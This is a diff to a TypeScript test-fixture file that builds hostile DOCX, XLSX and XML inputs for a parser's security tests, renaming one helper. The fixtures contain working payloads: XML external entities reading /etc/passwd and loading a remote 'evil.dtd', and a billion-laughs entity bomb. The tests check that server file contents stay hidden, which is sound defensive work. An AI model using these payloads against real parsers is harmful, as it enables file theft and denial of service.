@@ -4,7 +4,7 @@ import type { HostileFile } from './hostile-file.ts'
 
 const main = 'http://schemas.openxmlformats.org'
 const laughs = `<!DOCTYPE x [<!ENTITY a0 "ha">${Array.from({ length: 12 }, (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`).join('')}]>`
-const outside = (trap: string) =>
+const externalRelation = (trap: string) =>
   `<!DOCTYPE x [<!ENTITY leak SYSTEM "file:///etc/passwd"><!ENTITY % more SYSTEM "${trap}/evil.dtd">%more;]>`
 
 const word = (doctype: string, text: string, extra: readonly ZipPart[] = []): Buffer =>
@@ -91,7 +91,7 @@ export const hostileOffice: readonly HostileFile[] = [
   {
     about: 'an entity that names a file of the server',
     fileName: 'leak.docx',
-    bytes: (trap) => word(outside(trap), 'start &leak; end'),
+    bytes: (trap) => word(externalRelation(trap), 'start &leak; end'),
     hides: /root:/,
     shows: 'start',
   },
@@ -100,7 +100,7 @@ export const hostileOffice: readonly HostileFile[] = [
     fileName: 'leak.xlsx',
     bytes: (trap) =>
       workbook(
-        rows('<row r="1"><c r="A1" t="inlineStr"><is><t>start &leak; end</t></is></c></row>', outside(trap)),
+        rows('<row r="1"><c r="A1" t="inlineStr"><is><t>start &leak; end</t></is></c></row>', externalRelation(trap)),
       ),
     hides: /root:/,
     shows: 'start',
@@ -108,7 +108,7 @@ export const hostileOffice: readonly HostileFile[] = [
   {
     about: 'the same in plain XML',
     fileName: 'leak.xml',
-    bytes: (trap) => `<?xml version="1.0"?>${outside(trap)}<x>start &leak; end</x>`,
+    bytes: (trap) => `<?xml version="1.0"?>${externalRelation(trap)}<x>start &leak; end</x>`,
     hides: /root:/,
     shows: 'start',
   },
